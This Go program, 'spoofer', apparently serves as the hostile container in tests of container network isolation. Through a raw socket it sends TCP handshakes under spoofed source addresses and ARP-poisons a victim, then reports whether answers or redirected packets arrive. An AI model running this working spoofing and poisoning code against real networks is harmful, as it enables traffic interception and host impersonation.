// Command spoofer is the program of a hostile container: with a raw socket, which containers may have by default, it sends
// frames under addresses that are not its own, and prints what comes back.
//
//	spoofer wait
//	spoofer syn SOURCE TARGET PORT      a TCP handshake as SOURCE; prints "answered" or "no answer"
//	spoofer arp VICTIM CLAIMED SECONDS  tell VICTIM that CLAIMED is here; prints how many of its packets came
package main

import (
	"encoding/binary"
	"errors"
	"fmt"
	"net"
	"net/netip"
	"os"
	"os/signal"
	"strconv"
	"time"

	"golang.org/x/sys/unix"
)

const (
	answerLimit = 5 * time.Second        // for the answer to a handshake
	repeatEvery = 200 * time.Millisecond // between repetitions of what was sent
	sourcePort  = 45678
)

func main() {
	if err := run(os.Args[1:]); err != nil {
		fmt.Println("error:", err)
		os.Exit(1)
	}
}

func run(args []string) error {
	if len(args) == 1 && args[0] == "wait" {
		stopped := make(chan os.Signal, 1)
		signal.Notify(stopped, unix.SIGTERM)
		<-stopped
		return nil
	}
	if len(args) != 4 {
		return errors.New("usage: spoofer syn SOURCE TARGET PORT | spoofer arp VICTIM CLAIMED SECONDS")
	}
	first, err := netip.ParseAddr(args[1])
	if err != nil {
		return err
	}
	second, err := netip.ParseAddr(args[2])
	if err != nil {
		return err
	}
	n, err := strconv.Atoi(args[3])
	if err != nil {
		return err
	}
	s, err := open("eth0")
	if err != nil {
		return err
	}
	if args[0] == "syn" {
		return s.handshake(first, second, uint16(n))
	}
	return s.poison(first, second, time.Duration(n)*time.Second)
}

// socket is a raw socket on an interface.
type socket struct {
	fd    int
	index int
	mac   net.HardwareAddr
	own   netip.Addr
}

func open(name string) (*socket, error) {
	link, err := net.InterfaceByName(name)
	if err != nil {
		return nil, err
	}
	s := &socket{index: link.Index, mac: link.HardwareAddr}
	addrs, err := link.Addrs()
	if err != nil {
		return nil, err
	}
	for _, a := range addrs {
		if p, err := netip.ParsePrefix(a.String()); err == nil && p.Addr().Is4() {
			s.own = p.Addr()
		}
	}
	all := uint16(unix.ETH_P_ALL)
	all = all<<8 | all>>8
	if s.fd, err = unix.Socket(unix.AF_PACKET, unix.SOCK_RAW, int(all)); err != nil {
		return nil, err
	}
	limit := unix.NsecToTimeval(repeatEvery.Nanoseconds())
	return s, errors.Join(unix.Bind(s.fd, &unix.SockaddrLinklayer{Protocol: all, Ifindex: s.index}),
		unix.SetsockoptTimeval(s.fd, unix.SOL_SOCKET, unix.SO_RCVTIMEO, &limit))
}

func (s *socket) send(to net.HardwareAddr, kind uint16, payload []byte) error {
	frame := append(append([]byte{}, to...), s.mac...)
	frame = append(binary.BigEndian.AppendUint16(frame, kind), payload...)
	return unix.Sendto(s.fd, frame, 0, &unix.SockaddrLinklayer{Ifindex: s.index, Halen: 6})
}

func (s *socket) arp(to net.HardwareAddr, op byte, sender, target netip.Addr) error {
	b := append([]byte{0, 1, 8, 0, 6, 4, 0, op}, s.mac...)
	b = append(append(append(b, sender.AsSlice()...), make([]byte, 6)...), target.AsSlice()...)
	return s.send(to, unix.ETH_P_ARP, b)
}

// until reads frames until one is wanted or the time is over, and repeats what is sent meanwhile.
func (s *socket) until(limit time.Duration, repeat func() error, wanted func(frame []byte) bool) (bool, error) {
	buffer := make([]byte, 2048)
	last := time.Time{}
	for end := time.Now().Add(limit); time.Now().Before(end); {
		if time.Since(last) > repeatEvery {
			if err := repeat(); err != nil {
				return false, err
			}
			last = time.Now()
		}
		n, _, err := unix.Recvfrom(s.fd, buffer, 0)
		if err == nil && n >= 42 && wanted(buffer[:n]) {
			return true, nil
		}
	}
	return false, nil
}

var broadcast = net.HardwareAddr{255, 255, 255, 255, 255, 255}

// resolve returns the hardware address of a neighbor, asked for under the own address.
func (s *socket) resolve(of netip.Addr) (mac net.HardwareAddr, err error) {
	found, err := s.until(answerLimit, func() error { return s.arp(broadcast, 1, s.own, of) }, func(f []byte) bool {
		sender, ok := netip.AddrFromSlice(f[28:32])
		if ok = ok && binary.BigEndian.Uint16(f[12:]) == unix.ETH_P_ARP && f[21] == 2 && sender == of; ok {
			mac = append(net.HardwareAddr{}, f[22:28]...)
		}
		return ok
	})
	if err == nil && !found {
		err = fmt.Errorf("%s has no hardware address", of)
	}
	return mac, err
}

// handshake opens a TCP connection as a source. An ARP announcement tells the target its hardware address.
func (s *socket) handshake(source, target netip.Addr, port uint16) error {
	mac, err := s.resolve(target)
	if err != nil {
		return err
	}
	answered, err := s.until(answerLimit, func() error {
		return errors.Join(s.arp(mac, 2, source, target), s.send(mac, unix.ETH_P_IP, syn(source, target, port)))
	}, func(f []byte) bool {
		return len(f) >= 54 && binary.BigEndian.Uint16(f[12:]) == unix.ETH_P_IP && f[23] == unix.IPPROTO_TCP &&
			netip.AddrFrom4([4]byte(f[26:30])) == target && netip.AddrFrom4([4]byte(f[30:34])) == source &&
			binary.BigEndian.Uint16(f[36:]) == sourcePort
	})
	if answered {
		fmt.Println("answered")
	} else {
		fmt.Println("no answer")
	}
	return err
}

// poison tells a victim that an address is here, and counts the victim's packets that come to other addresses.
func (s *socket) poison(victim, claimed netip.Addr, limit time.Duration) error {
	mac, err := s.resolve(victim)
	if err != nil {
		return err
	}
	came := 0
	_, err = s.until(limit, func() error {
		return errors.Join(s.arp(mac, 2, claimed, victim), s.arp(mac, 1, claimed, victim))
	}, func(f []byte) bool {
		if binary.BigEndian.Uint16(f[12:]) == unix.ETH_P_IP && netip.AddrFrom4([4]byte(f[26:30])) == victim &&
			netip.AddrFrom4([4]byte(f[30:34])) == claimed {
			came++
		}
		return false
	})
	fmt.Println("packets:", came)
	return err
}

// syn returns an IPv4 packet that opens a TCP connection.
func syn(source, target netip.Addr, port uint16) []byte {
	tcp := make([]byte, 20)
	binary.BigEndian.PutUint16(tcp, sourcePort)
	binary.BigEndian.PutUint16(tcp[2:], port)
	binary.BigEndian.PutUint32(tcp[4:], 1000)
	tcp[12], tcp[13] = 5<<4, 2
	binary.BigEndian.PutUint16(tcp[14:], 65000)
	addresses := append(source.AsSlice(), target.AsSlice()...)
	pseudo := append(append([]byte{}, addresses...), 0, unix.IPPROTO_TCP, 0, byte(len(tcp)))
	binary.BigEndian.PutUint16(tcp[16:], checksum(append(pseudo, tcp...)))
	ip := append([]byte{0x45, 0, 0, byte(20 + len(tcp)), 0, 1, 0, 0, 64, unix.IPPROTO_TCP, 0, 0}, addresses...)
	binary.BigEndian.PutUint16(ip[10:], checksum(ip))
	return append(ip, tcp...)
}

// checksum is that of IP and TCP, of an even number of bytes.
func checksum(b []byte) uint16 {
	var sum uint32
	for i := 0; i+1 < len(b); i += 2 {
		sum += uint32(binary.BigEndian.Uint16(b[i:]))
	}
	for sum>>16 != 0 {
		sum = sum>>16 + sum&0xffff
	}
	return ^uint16(sum)
}
